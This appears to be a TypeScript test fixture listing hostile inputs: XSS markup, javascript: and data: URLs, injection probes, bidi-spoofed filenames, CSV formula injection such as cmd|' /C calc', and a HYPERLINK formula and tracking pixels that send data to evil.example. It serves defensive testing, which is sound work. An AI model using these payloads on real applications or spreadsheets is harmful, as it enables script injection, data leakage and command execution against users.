/** The global that a hostile text sets if it runs. */
export const RAN = '__pwned'

const run = `window.${RAN}=1`

/** Longer than any text that the contract allows, and unbreakable. */
const UNBROKEN = 'W'.repeat(10_000)

/** One of each kind. None may run, load anything, reverse the text around it or break the layout. */
export const hostileTexts = {
  unbroken: UNBROKEN,
  markup: `<img src=x onerror="${run}"><script>${run}</script><svg onload="${run}"><iframe src="javascript:parent.${run}">`,
  handlers: `" onmouseover="${run}" autofocus onfocus="${run}" style="position:fixed;inset:0" x="`,
  closingTags: `</title></textarea></style></script><script>${run}</script><!--`,
  javascriptLink: `javascript:${run}//https://example.com`,
  dataLink: `data:text/html,<script>${run}</script>`,
  template: "{{7*7}} ${7*7} <%= 7*7 %> %s %n ../../etc/passwd '; DROP TABLE users; --",
  override: 'invoice \u202Efdp.exe\u202D \u2067wol\u2066 \u202Bend',
  rightToLeft: 'مرحبا بالعالم 123 שלום עולם',
  invisible: '\u200B\u200C\u200D\u2060\uFEFF\u00AD\u2063',
  invisibleInside: 'pay\u200Bment \u2060of\uFEFF 1\u200C00',
  emoji: '👨‍👩‍👧‍👦🏴‍☠️🇮🇳👩🏽‍💻❤️‍🔥'.repeat(6),
  control: 'a\u0000b\u001B[31mred\u0007\u0085\u2028line\u2029paragraph\r\nEND:VEVENT\r\nBEGIN:VEVENT\rX:1',
  halfCharacter: 'half \uD83D a character \uDE00',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  plusFormula: "+cmd|' /C calc'!A0",
  minusFormula: "-2+3+cmd|' /C calc'!A0",
  atFormula: '@SUM(1+1)*cmd',
  tabFormula: '\t=1+1',
  returnFormula: '\r=1+1',
  separators: 'one,two;three\t"four"\n=5',
} as const satisfies Record<string, string>

/** As hostile as the contract's email format allows. */
export const hostileEmails = [
  `${'w'.repeat(200)}@${'w'.repeat(40)}.example`,
  "+cmd_'@evil.example",
  "-2+3_'@evil.example",
  "'_'@evil.example",
] as const

/** Well-formed URLs that must never become a link or be loaded. */
export const hostileLinks = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  'file:///etc/passwd',
] as const

/** Values in place of a picture. Each must be shown as a picture or must not be requested. */
export const hostilePictures = [
  'https://evil.example/pixel.png?who=admin',
  '//evil.example/pixel.png',
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`)}`,
  'data:image/png;base64,aHRtbA==',
  'file:///etc/passwd',
] as const
